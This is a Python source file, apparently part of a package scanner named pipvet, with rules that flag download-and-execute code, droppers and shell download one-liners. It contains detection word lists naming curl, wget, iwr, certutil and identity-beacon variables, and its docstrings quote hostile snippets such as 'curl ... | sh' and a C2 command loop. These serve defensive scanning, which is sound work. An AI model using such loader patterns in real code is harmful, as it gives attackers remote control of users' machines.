"""Download-and-execute: fetch code or a program from the network, then run it.

Three shapes: ``exec(urlopen(url).read())`` (fetched source executed in-process);
fetch -> write to disk -> chmod/spawn/``os.startfile`` (a dropped program); and shell
one-liners such as ``curl ... | sh`` or PowerShell ``iwr ... | iex`` handed to a process call.
"""

from __future__ import annotations

import ast
import re
from collections.abc import Iterable, Iterator

from pipvet.analysis.context import FileContext, FileKind, PackageContext
from pipvet.analysis.facts import (
    CallFact,
    Facts,
    ImportFact,
    Scope,
    capabilities,
    facts_of,
    line_of,
    may_call,
    telling_part,
    unhidden_text,
)
from pipvet.analysis.flow import NETWORK_READS, trace
from pipvet.analysis.lazyre import LazyPattern
from pipvet.analysis.rules._base import BaseRule, call_stage, stage_of
from pipvet.analysis.rules._shell import Command, classify, command_parts, command_text, program_name
from pipvet.analysis.rules._signals import lower, mentions
from pipvet.analysis.rules.execution import PATH_LOADER_WORDS, loaded_path, may_execute
from pipvet.analysis.rules.install import maintainer_command
from pipvet.models import UNASKED_STAGES, Finding, Severity, Stage

EXEC_SINKS: frozenset[str] = frozenset({"exec", "eval", "execfile", "compile", "marshal.loads"})
#: Deserialisers whose data names functions to call: unpickling runs code.
UNPICKLERS: frozenset[str] = frozenset(
    {"pickle.loads", "pickle.load", "_pickle.loads", "cPickle.loads", "dill.loads", "dill.load"}
    | {"cloudpickle.loads", "cloudpickle.load", "joblib.load"}
)
_UNPICKLER_WORDS = ("pickle", "dill", "joblib")
_FETCHERS: frozenset[str] = frozenset(
    {
        *NETWORK_READS,
        "urllib.request.urlretrieve",
        "urllib.urlretrieve",
        "wget.download",
        "requests.Session().get",
    }
)
_RUNNERS: frozenset[str] = frozenset({"os.startfile", "os.chmod", "os.execv", "os.execve", "os.execl"})
_CONSOLE_WRITES = frozenset({"sys.stdout.write", "sys.stderr.write", "sys.stdout.buffer.write"})
"""Writes to the console, not to a file."""
_WRITE_SUFFIXES = ("urlretrieve", "wget.download", ".write")
_FILE_OBJECT_WRITES = frozenset({"write", "writelines", "write_bytes", "write_text"})
_PATH_KEYWORDS = frozenset({"file", "filename", "out", "dst"})


def _strong(stage: Stage) -> Severity:
    return Severity.CRITICAL if stage in UNASKED_STAGES else Severity.HIGH


_FETCH_WORDS = ("urlopen", "urlretrieve")
_RUNNER_WORDS = tuple(sorted({telling_part(n) for n in _RUNNERS}))
_IMPORTER_WORDS = ("import_module", "__import__", "run_module", *PATH_LOADER_WORDS)
#: A string that names a Python file (``"_ext.py"``): a module a dropper saves to import.
_MODULE_FILE = LazyPattern(r"\.pyw?['\"]")
#: A string that names a program file (``'x.exe'``, ``"run.sh"``): what a dropper writes.
_PROGRAM_NAME = LazyPattern(r"\.(?:exe|bat|cmd|scr|dll|ps1|vbs|sh|msi|com)['\"]", re.IGNORECASE)


def _may_drop(file: FileContext) -> bool:
    """Cheap pre-check for :class:`DropAndRun`: something that runs a program or imports a
    module, a string naming a program file to write, or an entry added to ``sys.path`` (the
    fetch itself is checked by :func:`_python`)."""
    if file.kind is not FileKind.PYTHON:
        return False
    if may_call(file, "process", words=(*_RUNNER_WORDS, *_IMPORTER_WORDS, *_UNPICKLER_WORDS)):
        return True
    text = file.text or ""
    return (
        _PROGRAM_NAME.search(text) is not None
        or _MODULE_FILE.search(text) is not None
        or "sys.path.insert" in text
        or "sys.path.append" in text
    )


#: Lower-cased words one of which every command that PV-DL-003 reports holds (see
#: ``_shell._DOWNLOAD`` and ``_shell._ENCODED``): commands are read from string literals.
SHELL_FETCH_WORDS = (
    "curl",
    "wget",
    "invoke-webrequest",
    "iwr",
    "downloadstring",
    "downloadfile",
    "webclient",
    "certutil",
    "bitsadmin",
    "bitstransfer",
    "powershell",
)


#: Lower-cased words one of which every identity beacon holds (``_shell._IDENTITY``).
SHELL_IDENTITY_WORDS = (
    *("$(whoami", "$(hostname", "$(id", "$(uname", "$(logname", "`whoami", "`hostname", "`id", "`uname"),
    *("$user", "${user", "$hostname", "${hostname", "$logname", "${logname"),
    *("%username%", "%computername%", "%userdomain%"),
)


def _may_drop_by_shell(file: FileContext) -> bool:
    """Cheap pre-check for :class:`ShellDropper`: a download tool or the shell's identity
    variables named in the text (or written in a way the text does not show: escapes, joined
    literals)."""
    if file.kind is not FileKind.PYTHON:
        return False
    if mentions(file, SHELL_FETCH_WORDS) or mentions(file, SHELL_IDENTITY_WORDS):
        return True
    cached = file.cache.get("pipvet.download.shell_words_hidden")
    if isinstance(cached, bool):
        return cached  # asked by PV-DL-003 and PV-DL-004 alike
    hidden = unhidden_text(file)
    lowered = hidden.lower() if hidden is not None else ""
    found = any(word in lowered for word in (*SHELL_FETCH_WORDS, *SHELL_IDENTITY_WORDS))
    file.cache["pipvet.download.shell_words_hidden"] = found
    return found


def _python(file: FileContext, *capabilities: str, words: tuple[str, ...] = ()) -> Facts | None:
    """The file's facts, if it is Python and can call something of ``capabilities``/``words``."""
    if file.kind is not FileKind.PYTHON or not may_call(file, *capabilities, words=words):
        return None
    return facts_of(file)


class ExecFetched(BaseRule):
    """``exec``/``eval`` of data that came from the network."""

    __slots__ = ()

    def check(self, file: FileContext, package: PackageContext) -> Iterable[Finding]:
        if file.kind is not FileKind.PYTHON:
            return
        if may_execute(file, words=("marshal", *_UNPICKLER_WORDS)):
            yield from self._executed(file, package)
        if not may_call(file, "process"):
            return
        if mentions(file, _INTERPRETER_WORDS):
            yield from self._interpreted(file, package)
        yield from self._commanded(file, package)

    def _commanded(self, file: FileContext, package: PackageContext) -> Iterator[Finding]:
        """``subprocess.run(requests.get(C2).json()["cmd"], shell=True)``: a shell command that
        arrives over the network, the loop of a remote-controlled backdoor (also one that
        ``curl`` fetched: ``getoutput(getoutput('curl http://h/msg'))``)."""
        facts = _python(file, "network", words=(*_FETCH_WORDS, "curl", "wget"))
        if facts is None:
            return
        for call in facts.calls:
            if "process" not in capabilities(call) or not call.node.args:
                continue
            if _interpreter_code(call) is not None:
                continue  # ``[sys.executable, "-c", code]``: reported as executed code
            parts = command_parts(call.node.args[0])
            # the command as this function makes it: a version string a caller fetched and
            # handed down into a path (usort's back-compat check) is no command from the network
            if not any(trace(facts, part, call.function, callers=False).fetched for part in parts):
                continue
            stage = call_stage(file, package, facts, call)
            chosen = stage is Stage.RUNTIME and _caller_chosen(facts, call.function)
            yield self.at_call(
                file,
                call,
                severity=Severity.HIGH if chosen else Severity.CRITICAL,
                stage=stage,
                message=f"{call.name}() runs a command that was downloaded from the network: whoever "
                "answers at that address runs programs on this machine (a remote-controlled backdoor)."
                + (f" The address is one {call.function}() is given." if chosen else ""),
            )

    def _interpreted(self, file: FileContext, package: PackageContext) -> Iterator[Finding]:
        """``subprocess.Popen([sys.executable, '-c', urlopen(u).read()])``: downloaded source
        handed to a new Python interpreter instead of ``exec``."""
        facts = _python(file, "network", words=_FETCH_WORDS)
        if facts is None:
            return
        for call in facts.calls:
            code = _interpreter_code(call) if "process" in capabilities(call) else None
            if code is None or not trace(facts, code, call.function).fetched:
                continue
            stage = call_stage(file, package, facts, call)
            yield self.at_call(
                file,
                call,
                severity=_strong(stage),
                stage=stage,
                message=f"{call.name}() starts Python with code downloaded from the network (`-c`): "
                "whatever the server sends runs on this machine (a remote-controlled loader).",
            )

    def _executed(self, file: FileContext, package: PackageContext) -> Iterator[Finding]:
        facts = _python(file, "network", words=_FETCH_WORDS)
        if facts is None:
            return
        reported: set[str | None] = set()
        for call in facts.calls:
            unpickles = call.name in UNPICKLERS
            if not (unpickles or call.name in EXEC_SINKS) or not call.node.args:
                continue
            flow = trace(facts, call.node.args[0], call.function)
            if not flow.fetched:
                continue
            on_load = facts.runs_on_load(call)
            stage = stage_of(file, package, on_load=on_load)
            if unpickles:
                if stage in UNASKED_STAGES:
                    # a model or a dataset unpickled on request is a risk of the caller's
                    # choosing; unpickled as the package installs or loads, it is a loader
                    yield self.at_call(
                        file,
                        call,
                        severity=Severity.CRITICAL,
                        stage=stage,
                        message=f"{call.name}() unpickles data downloaded from the network as the package "
                        "loads: a pickle names functions to call, so whatever the server sends runs "
                        "on this machine (a remote-controlled loader).",
                    )
                continue
            severity = Severity.CRITICAL
            message = (
                f"{call.name}() runs code downloaded from the network: whatever the server "
                "sends becomes code on this machine (a remote-controlled loader)."
            )
            in_function = stage is Stage.RUNTIME and not on_load
            if in_function and call.name == "eval" and _value_used(file, call.node):
                # ``pd.DataFrame(eval(r.text.split("=")[1])["data"])``: a scraper parsing a
                # JavaScript-style response as a Python expression (akshare). Dangerous if the
                # server turns hostile, but a parser, not a loader: loaders run what they fetch.
                severity = Severity.MEDIUM
                message = (
                    "eval() reads downloaded text as a Python expression and uses the value as data: "
                    "whoever controls that server could run code here (json or ast.literal_eval "
                    "would not let it)."
                )
            elif in_function and (_caller_chosen(facts, call.function) or _configured(facts, call.function)):
                # ``def load_plugin(url): exec(urlopen(url).read())``: a feature that runs what
                # its caller points it at (dask's preload scripts); a loader names its server.
                if call.function in reported:
                    continue  # compile() then exec() of the same download: one finding
                reported.add(call.function)
                severity = Severity.HIGH
                message = (
                    f"{call.name}() runs code downloaded from an address its caller or its "
                    f"configuration gives ({call.function}()): whoever controls that address "
                    "controls this machine."
                )
            yield self.at_call(
                file,
                call,
                severity=severity,
                stage=stage,
                message=message,
            )


_INTERPRETER_WORDS = ("executable", "python", "py")


def _interpreter_code(call: CallFact) -> ast.expr | None:
    """The argument after ``-c`` in a command list that starts a Python interpreter
    (``[sys.executable, '-c', code]``, ``('python3', '-c', code)``)."""
    args = call.node.args
    if not args or not isinstance(args[0], ast.List | ast.Tuple):
        return None
    elts = args[0].elts
    for at in range(1, len(elts) - 1):
        flag = elts[at]
        if isinstance(flag, ast.Constant) and flag.value == "-c" and _interpreter(elts[at - 1]):
            return elts[at + 1]
    return None


def _interpreter(node: ast.expr) -> bool:
    if isinstance(node, ast.Attribute):
        return node.attr == "executable"
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return program_name(node.value).startswith(("python", "py"))
    return False


def _value_used(file: FileContext, node: ast.Call) -> bool:
    """The call's value is used (indexed, passed on, assigned, returned), not a statement of its
    own. Asked only for an eval of fetched data, so it may walk the tree."""
    key = "download.bare_calls"
    bare = file.cache.get(key)
    if not isinstance(bare, set):
        bare = set()
        if file.tree is not None:
            bare = {id(n.value) for n in ast.walk(file.tree) if isinstance(n, ast.Expr)}
        file.cache[key] = bare
    return id(node) not in bare


def _caller_chosen(facts: Facts, function: str | None) -> bool:
    """Every fetch in ``function`` reads an address that is one of its parameters, never
    reassigned there, and nothing in the file calls the function with a literal URL."""
    fn = facts.functions.get(function) if function is not None else None
    if fn is None or isinstance(fn, ast.Lambda):
        return False
    params = {a.arg for a in (*fn.args.posonlyargs, *fn.args.args, *fn.args.kwonlyargs)}
    fetches = [c for c in facts.calls_in.get(function, ()) if c.name in _FETCHERS or _fetch_like(c)]
    if not fetches:
        return False
    for fetch in fetches:
        node = fetch.node
        url = node.args[0] if node.args else next((k.value for k in node.keywords if k.arg == "url"), None)
        if not (isinstance(url, ast.Name) and url.id in params):
            return False
        if any(a.function == function for a in facts.assigns.get(url.id, ())):
            return False
    short = function.rpartition(".")[2] if function else ""
    for call in facts.calls:
        if call.name.rpartition(".")[2] != short:
            continue
        handed = [*call.node.args, *(k.value for k in call.node.keywords)]
        if any(isinstance(a, ast.Constant) and isinstance(a.value, str) and "://" in a.value for a in handed):
            return False
    return True


_METHODS = frozenset({"GET", "POST", "PUT", "PATCH", "HEAD", "get", "post"})


def _configured(facts: Facts, function: str | None) -> bool:
    """Every fetch in ``function`` reads an address looked up at run time (``dask.config.get(
    "coiled.server") + "/api/..."``, an environment variable without a default address): no
    literal address, decoding, character arithmetic or fetched text flows into it. A loader
    carries its server, plain or hidden; a plugin feature asks its configuration."""
    if function is None:
        return False
    fetches = [c for c in facts.calls_in.get(function, ()) if c.name in _FETCHERS or _fetch_like(c)]
    if not fetches:
        return False
    for fetch in fetches:
        args = list(fetch.node.args)
        if args and isinstance(args[0], ast.Constant) and args[0].value in _METHODS:
            args = args[1:]  # ``pool.request("GET", url)``
        url = args[0] if args else next((k.value for k in fetch.node.keywords if k.arg == "url"), None)
        if url is None:
            return False
        flowed = trace(facts, url, function)
        looked_up = bool(flowed.names - {"?"})
        if not looked_up or flowed.decoded or flowed.fetched or flowed.chr_calls:
            return False
        if any("://" in text for text in flowed.strings):
            return False
    return True


class DropAndRun(BaseRule):
    """Fetch a file, write it to disk and run it, within one function or at module level."""

    __slots__ = ()

    def check(self, file: FileContext, package: PackageContext) -> Iterable[Finding]:
        if not _may_drop(file):
            return
        facts = _python(file, "network", words=_FETCH_WORDS)
        if facts is None:
            return
        # Every group below is made of the file's calls: without a fetch among them, none has one
        # (one pass instead of a reachability walk per scope).
        if not any(c.name in _FETCHERS or _fetch_like(c) for c in facts.calls):
            return
        for scope, calls in facts.calls_in.items():
            if scope is None:
                group = facts.reachable_calls([c for c in calls if c.at_load], depth=2)
            else:
                group = calls
            fetch = next(
                (c for c in group if (c.name in _FETCHERS or _fetch_like(c)) and not loopback(facts, c)),
                None,
            )
            helped = None if fetch is not None or scope is None else _download_helper_call(facts, group)
            if helped is not None:
                fetch = helped  # ``safe_download(url, exe)``: a local helper fetches and saves
            if fetch is None:
                continue
            writes = [
                c
                for c in group
                if ("file_write" in capabilities(c) or c.name.endswith(_WRITE_SUFFIXES))
                and c.name not in _CONSOLE_WRITES
            ]
            if helped is not None:
                writes.append(helped)
            runs = [c for c in group if _runs_program(facts, c)]
            imported = (
                next((c for c in group if _imports_written(facts, c, writes)), None) if writes else None
            )
            statement = _import_of_written(facts, scope, writes) if writes and imported is None else None
            if statement is not None and not runs:
                yield self._saved(
                    file,
                    package,
                    statement.line,
                    on_load=scope is None or facts.runs_on_load(writes[0]),
                    message=f"Downloads a file ({fetch.name}, line {fetch.line}), saves it as the Python "
                    f"module {statement.name or statement.module!r} and imports it: downloaded code run by "
                    "an import instead of a process (a dropper's second stage).",
                )
                continue
            if writes and not runs and imported is None:
                exe = next((w for w in writes if _writes_program(facts, w)), None)
                if exe is not None:
                    yield self._saved(
                        file,
                        package,
                        exe.line,
                        on_load=scope is None or facts.runs_on_load(exe),
                        message=f"Downloads a file ({fetch.name}, line {fetch.line}) and saves it as a "
                        "program (.exe/.bat/.ps1/...): a dropper's first half.",
                    )
                continue
            if not (runs or imported) or not writes:
                continue
            # Strong when the program run is the file written (same name or path in both calls),
            # and what was written there is not text the code composed itself (a job script)
            fetched = _fetched_names(facts, writes)
            written = set().union(*(_target(w) for w in writes if not _composed(facts, w, group, fetched)))
            if helped is not None:
                written |= _operands(helped)  # what the helper is told to save
            run = next(
                (
                    r
                    for r in runs
                    if _linked(_operands(r, positional=True), written)
                    and not _hands_to_data_tool(r)
                    and not _hands_config(facts, r, writes)
                ),
                imported,
            )
            linked = run is not None
            run = run or runs[0]
            on_load = scope is None or facts.runs_on_load(run)
            stage = stage_of(file, package, on_load=on_load)
            if stage is Stage.INSTALL and maintainer_command(facts, file.tree, scope):
                stage = Stage.RUNTIME  # ``setup.py update_libusb``: run when a maintainer asks
            if not linked and (stage not in UNASKED_STAGES or helped is not None):
                # download, write and spawn in one busy function: too common in tools; and a
                # helper's download counts only when what it saved is what runs (apsw's setup.py
                # fetches SQLite's sources through one, then runs ./configure in them)
                continue
            if run.name in UNPICKLERS and stage not in UNASKED_STAGES:
                continue  # a model downloaded and unpickled on request: a library's risk (PV-DL-001)
            severity = Severity.CRITICAL if linked else Severity.HIGH
            if (
                linked
                and stage is Stage.RUNTIME
                and (_fixed_https(facts, fetch) or (helped is not None and not _plain_address(facts, fetch)))
                and not _persists(file)
            ):
                # A function that fetches a tool from one fixed https address by name is how
                # developer tools get helpers (a profiler's flame-graph script); loaders reach
                # raw IPs, plain http or addresses they compute.
                severity = Severity.HIGH
            yield self.finding(
                file,
                line=run.line,
                evidence=line_of(file, run.line),
                severity=severity,
                stage=stage,
                message=f"Downloads a file ({fetch.name}, line {fetch.line}), writes it to disk and runs it "
                f"({run.name}): the classic dropper pattern.",
            )

    def _saved(
        self, file: FileContext, package: PackageContext, line: int, *, on_load: bool, message: str
    ) -> Finding:
        """A download saved where it will run: critical as the package installs or loads."""
        stage = stage_of(file, package, on_load=on_load)
        return self.finding(
            file,
            line=line,
            evidence=line_of(file, line),
            severity=_strong(stage),
            stage=stage,
            message=message,
        )


def _persists(file: FileContext) -> bool:
    """The file also writes itself into a place that runs code at every login or boot (a Run
    key, a crontab ``@reboot`` line, a LaunchAgent): a tool's helper is fetched when needed, a
    stage that must survive a reboot is planted (SilentSync's ``gen_token``)."""
    from pipvet.analysis.rules.persistence import places

    return any(strong for _, strong, _ in places(file))


_LOOPBACK = LazyPattern(r"(?:[a-z]+://)?(?:127(?:\.\d{1,3}){3}|localhost|\[?::1\]?)(?:[:/]|$)", re.I)


def _download_helper_call(facts: Facts, group: list[CallFact]) -> CallFact | None:
    """A call in ``group`` to one of the file's own functions that itself downloads and saves a
    file (``safe_download(url, dest)``): the caller decides what is fetched and where it goes,
    so the caller's arguments are the download's address and path."""
    for call in group:
        name = call.name.lstrip("?")
        if name not in facts.functions or not call.node.args:
            continue
        facts.ensure(name)
        inner = facts.reachable_calls(list(facts.calls_in.get(name, ())), depth=1)
        fetches = any(c.name in _FETCHERS or _fetch_like(c) for c in inner)
        saves = any(c.name.endswith(_WRITE_SUFFIXES) or "file_write" in capabilities(c) for c in inner)
        if fetches and saves:
            return call
    return None


def _plain_address(facts: Facts, fetch: CallFact) -> bool:
    """The fetch's arguments spell a plain ``http://`` URL or a raw IP address: where loaders
    fetch from, not where tools are published (a download helper's caller, say bazelisk, builds
    its https address from a release name)."""
    strings = [s for arg in fetch.node.args for s in trace(facts, arg, fetch.function).strings]
    return any(
        s.startswith("http://") or _RAW_IP_HOST.match(s.replace("http://", "https://", 1)) for s in strings
    )


def loopback(facts: Facts, fetch: CallFact) -> bool:
    """The fetch talks to this machine only: every address in its URL or in the connection it
    is made on is a loopback one (SCons polls its own build daemon on 127.0.0.1)."""
    exprs: list[ast.expr] = list(fetch.node.args[:1])
    if isinstance(fetch.node.func, ast.Attribute):
        exprs.append(fetch.node.func.value)  # ``conn.request(...)``: where ``conn`` connects
    strings = [s for e in exprs for s in trace(facts, e, fetch.function).strings]
    hosts = [s for s in strings if "://" in s or _LOOPBACK.match(s)]
    return bool(hosts) and all(_LOOPBACK.match(s) for s in hosts)


_RAW_IP_HOST = LazyPattern(r"https://\[?[0-9a-f:.]+\]?(?::\d+)?(?:/|$)", re.I)


def _fixed_https(facts: Facts, fetch: CallFact) -> bool:
    """The fetch's address is a literal ``https://`` URL to a named host (not a raw IP)."""
    if not fetch.node.args:
        return False
    strings = trace(facts, fetch.node.args[0], fetch.function).strings
    urls = [s for s in strings if "://" in s]
    return (
        bool(strings)
        and strings[0].startswith("https://")
        and all(u.startswith("https://") and not _RAW_IP_HOST.match(u) for u in urls)
    )


#: Programs that read a file as data: handing them the downloaded file unpacks or checks it, and
#: runs nothing from it (``subprocess.check_call(["gunzip", "-k", path])`` in pyro's examples).
_DATA_TOOLS = frozenset(
    {"gunzip", "gzip", "bunzip2", "bzip2", "unxz", "xz", "zstd", "unzstd", "unzip", "tar", "7z", "7za"}
    | {"md5sum", "sha1sum", "sha256sum", "shasum", "file", "cat", "head", "wc", "sort", "cp", "mv", "ls"}
    # signature and checksum checkers read what they are handed (libusb1 checks its download
    # with gpgv before unpacking it)
    | {"gpg", "gpg2", "gpgv", "gpgv2", "sha512sum", "sha384sum", "b2sum", "minisign", "signify"}
)


def _hands_to_data_tool(call: CallFact) -> bool:
    """A process call whose program is spelled as a literal data tool, with no shell to chain
    another command: an argument list (``["tar", "xzf", path]``) or a string without shell
    operators run without ``shell=True``."""
    if "process" not in capabilities(call) or not call.node.args:
        return False
    command = call.node.args[0]
    if isinstance(command, ast.List | ast.Tuple) and command.elts:
        first = command.elts[0]
        program = first.value if isinstance(first, ast.Constant) and isinstance(first.value, str) else None
    elif isinstance(command, ast.Constant) and isinstance(command.value, str):
        if any(op in command.value for op in ("&", "|", ";", "`", "$(", "\n")):
            return False
        program = command.value.split()[0] if command.value.split() else None
    else:
        return False
    if program is None:
        return False
    return program_name(program) in _DATA_TOOLS


def _target(call: CallFact) -> set[str]:
    """The path a write goes to: ``open(path, 'wb')``, ``urlretrieve(url, path)``, ``p.write_bytes``."""
    return _collect(_target_nodes(call))


def _target_nodes(call: CallFact) -> list[ast.expr]:
    """The expressions that spell the path of :func:`_target`."""
    node = call.node
    if call.name.endswith(("urlretrieve", "wget.download")):
        return node.args[1:2] or [k.value for k in node.keywords if k.arg in {"filename", "out"}]
    if call.name in {"open", "io.open", "codecs.open", "os.open"}:
        return node.args[:1] or [k.value for k in node.keywords if k.arg == "file"]
    if isinstance(node.func, ast.Attribute) and node.func.attr in {"write_bytes", "write_text"}:
        return [node.func.value]
    return []


def _operands(call: CallFact, *, positional: bool = False) -> set[str]:
    """Names and string literals a call is handed (to link a written file to a run program)."""
    nodes = list(call.node.args)
    if not positional:
        nodes += [k.value for k in call.node.keywords]
    return _collect(nodes)


def _collect(nodes: list[ast.expr]) -> set[str]:
    out: set[str] = set()
    for node in nodes:
        for sub in (
            ast.walk(node) if isinstance(node, ast.JoinedStr | ast.BinOp | ast.List | ast.Tuple) else [node]
        ):
            if isinstance(sub, ast.Name) and sub.id not in {"True", "False", "None"}:
                out.add(sub.id)
            elif isinstance(sub, ast.Constant) and isinstance(sub.value, str) and len(sub.value) > 3:
                out.add(sub.value)
    return out


_PROGRAM_SUFFIXES = (".exe", ".bat", ".cmd", ".scr", ".dll", ".ps1", ".vbs", ".sh", ".msi", ".com")
"""Names of files a dropper saves to run. Not ``.js``: web applications save and copy their
JavaScript assets all the time (open-webui copies its ``loader.js`` at import); a script saved
for Windows Script Host is still reported when it is run."""


_DATA_SUFFIXES = (
    *(".conf", ".cfg", ".ini", ".json", ".yaml", ".yml", ".toml", ".xml", ".txt", ".csv", ".key", ".pem"),
)


def _hands_config(facts: Facts, run: CallFact, writes: list[CallFact]) -> bool:
    """Every file ``run`` is handed that the function wrote is named like configuration or data
    (``wg0.conf`` for ``wg-quick``): the program reads it, nothing in it runs."""
    used = _operands(run, positional=True)
    linked = [w for w in writes if _linked(used, _target(w))]
    if not linked:
        return False
    for write in linked:
        node = write.node
        paths = node.args[1:2] if write.name.endswith("urlretrieve") else node.args[:1]
        names = [s.lower() for p in paths for s in trace(facts, p, write.function).strings]
        if not names or not names[-1].endswith(_DATA_SUFFIXES):
            return False
    return True


def _writes_program(facts: Facts, call: CallFact) -> bool:
    """The path a write goes to names a program file (not: the data written names one)."""
    node = call.node
    if isinstance(node.func, ast.Attribute) and node.func.attr in _FILE_OBJECT_WRITES:
        # ``f.write(html)``: the data is no path; the file object (``open("x.exe", "wb")``) is
        paths: list[ast.expr] = [node.func.value]
    else:  # open(path), urlretrieve(url, path), shutil.copy(src, dst), os.rename(src, dst)
        paths = [*node.args[:2], *(k.value for k in node.keywords if k.arg in _PATH_KEYWORDS)]
    return any(_names_program(s) for p in paths for s in trace(facts, p, call.function).strings)


def _names_program(text: str) -> bool:
    """A file name or path ending like a program; not an address (``support@example.com``,
    ``https://example.com``) nor prose."""
    name = text.lower().rstrip("'\" ")
    if "@" in name or "://" in name or any(c.isspace() for c in name):
        return False
    return name.endswith(_PROGRAM_SUFFIXES)


#: Calls that run a Python module by its name (those that run a file by its path:
#: :func:`~pipvet.analysis.rules.execution.loaded_path`).
_PATH_ENTRY = frozenset({"sys.path.insert", "sys.path.append"})
_RUN_BY_NAME = frozenset({"importlib.import_module", "__import__", "runpy.run_module"})


def _imports_written(facts: Facts, call: CallFact, writes: list[CallFact]) -> bool:
    """``call`` imports or runs as Python a file one of ``writes`` saved: the path itself
    (``runpy.run_path(p)``, or unpickled: ``pickle.load(open(p, "rb"))``), or a module whose last
    name is the saved ``.py`` file's stem (``urlretrieve(url, join(here, "_ext.py"))``, then
    ``import_module("pkg._ext")``)."""
    if (path := loaded_path(call)) is not None:
        return _linked(_collect([path]), set().union(*(_target(w) for w in writes)))
    if call.name in _PATH_ENTRY and call.node.args and writes:
        # ``sys.path.insert(0, saved_zip)`` then ``import payload``: the saved archive is code
        linked = _linked(_collect([call.node.args[-1]]), set().union(*(_target(w) for w in writes)))
        return linked and any(
            i.line > call.line and (i.scope is not Scope.MODULE) is (call.function is not None)
            for i in facts.imports
        )
    if call.name in UNPICKLERS and writes:
        # ``pickle.load(fh)`` of ``with open(p, "rb") as fh``: unpickling the saved file runs it
        nodes = list(call.node.args)
        nodes += [
            a.value
            for n in call.node.args
            if isinstance(n, ast.Name)
            for a in facts.assigns.get(n.id, ())
            if a.function == call.function
        ]
        # the path ``open`` was handed, for ``open(p, "rb")`` here or bound to the name handed
        handed = _collect([sub for n in nodes for sub in (n.args if isinstance(n, ast.Call) else [n])])
        return _linked(handed, set().union(*(_target(w) for w in writes)))
    if call.name not in _RUN_BY_NAME or not call.node.args:
        return False
    modules = trace(facts, call.node.args[0], call.function, callers=False).strings
    return not _written_modules(facts, writes).isdisjoint(m.rpartition(".")[2] for m in modules if m)


def _import_of_written(facts: Facts, scope: str | None, writes: list[CallFact]) -> ImportFact | None:
    """An ``import`` statement in ``scope``, after a write, of a module ``writes`` saved
    (``open(join(here, "_ext.py"), "wb").write(data)``, then ``from . import _ext``)."""
    if scope is None:
        first, last = 0, float("inf")
    else:
        node = facts.functions.get(scope)
        if node is None:
            return None
        first, last = node.lineno, node.end_lineno or node.lineno
    after = min(w.line for w in writes)
    candidates = [
        i
        for i in facts.imports
        if after < i.line and first <= i.line <= last and (scope is not None or i.scope is Scope.MODULE)
    ]
    if not candidates:
        return None
    modules = _written_modules(facts, writes)
    return next((i for i in candidates if (i.name or i.module).rpartition(".")[2] in modules), None)


def _written_modules(facts: Facts, writes: list[CallFact]) -> set[str]:
    """Module names of the ``.py`` files ``writes`` save (``_ext`` of ``.../_ext.py``), when
    what one of them writes is downloaded data (a ``_version.py`` written beside a fetch of
    something else is no downloaded module)."""
    if not any(_writes_fetched(facts, w) for w in writes):
        return set()
    out: set[str] = set()
    for write in writes:
        for path in _target_nodes(write):
            for text in trace(facts, path, write.function, callers=False).strings:
                name = text.replace("\\", "/").rpartition("/")[2]
                if name.endswith((".py", ".pyc", ".pyw")):
                    out.add(name.rpartition(".")[0])
    return out


def _writes_fetched(facts: Facts, write: CallFact) -> bool:
    """``write`` saves downloaded data: a download call that saves, or a write handed data
    that comes from the network."""
    if write.name.endswith(("urlretrieve", "wget.download")):
        return True
    return any(trace(facts, arg, write.function, callers=False).fetched for arg in write.node.args)


def _fetched_names(facts: Facts, writes: list[CallFact]) -> set[str]:
    """Names of programs and scripts (``winenv.py``) in the paths that downloads are saved to."""
    names: set[str] = set()
    for write in writes:
        if not _writes_fetched(facts, write):
            continue
        for node in _target_nodes(write):
            for text in trace(facts, node, write.function, callers=False).strings:
                tail = text.replace("\\", "/").rpartition("/")[2].lower()
                if len(tail) > 3 and tail.endswith(_RUNNABLE) and "." in tail.strip("."):
                    names.add(tail)
    return names


def _text_mode(call: CallFact) -> bool:
    """``open(path, "w")``: the mode is literal text without ``b``."""
    node = call.node
    mode = (
        node.args[1]
        if len(node.args) > 1
        else next((k.value for k in node.keywords if k.arg == "mode"), None)
    )
    return isinstance(mode, ast.Constant) and isinstance(mode.value, str) and "b" not in mode.value


_RUNNABLE = (
    ".py",
    ".pyw",
    ".exe",
    ".bat",
    ".cmd",
    ".ps1",
    ".vbs",
    ".js",
    ".sh",
    ".dll",
    ".jar",
    ".msi",
    ".scr",
)


def _composed(facts: Facts, write: CallFact, group: list[CallFact], fetched: set[str]) -> bool:
    """``write`` opens a file whose handle is then only written text that no download flows
    into and that names no downloaded file: ``script = open(name, "w")``,
    ``script.write("#!/bin/bash\\n")`` ... a script the code composed, which it may well run
    (ILCDIRAC's grid jobs), not the file it fetched. A launcher that names the download
    (pycrypte's VBS running ``python ...\\winenv.py``) is how the download runs."""
    if write.name not in {"open", "io.open", "codecs.open"} or not _text_mode(write):
        return False  # bytes written out are a payload, not a script being composed
    handles = {
        name
        for name, assigns in facts.assigns.items()
        for a in assigns
        if a.value is write.node and a.function == write.function
    }
    if not handles:
        return False
    fills = [
        c
        for c in group
        if c.name.endswith(".write")
        and isinstance(c.node.func, ast.Attribute)
        and isinstance(c.node.func.value, ast.Name)
        and c.node.func.value.id in handles
    ]
    if not fills:
        return False
    flows = [trace(facts, arg, c.function, callers=False) for c in fills for arg in c.node.args]
    if any(flow.fetched or flow.decoded or flow.file_read for flow in flows):
        return False
    texts = " ".join(t.lower() for flow in flows for t in flow.strings)
    return not any(name in texts for name in fetched)


def _linked(used: set[str], written: set[str]) -> bool:
    if used & written:
        return True
    tails = {w.replace("\\", "/").rsplit("/", 1)[-1] for w in written}
    return any(len(t) > 2 and t in u for t in tails for u in used)


def _fetch_like(call: CallFact) -> bool:
    if call.name.rpartition(".")[2] in {"urlretrieve", "urlopen"}:
        return True
    return "network" in capabilities(call) and call.name.rpartition(".")[2] in {
        "get",
        "urlopen",
        "urlretrieve",
        "request",
        "download",
    }


def _runs_program(facts: Facts, call: CallFact) -> bool:
    if call.name in _RUNNERS:
        if call.name != "os.chmod":
            return True
        mode = call.node.args[1] if len(call.node.args) > 1 else None
        return _exec_mode(facts, call, mode)
    if "process" in capabilities(call):
        text, _ = command_text(facts, call)
        return classify(text) is not Command.BUILD_TOOL
    return False


_EXEC_FLAGS = frozenset({"S_IEXEC", "S_IXUSR", "S_IXGRP", "S_IXOTH", "S_IRWXU", "S_IRWXG", "S_IRWXO"})


def _exec_mode(facts: Facts, call: CallFact, mode: ast.expr | None) -> bool:
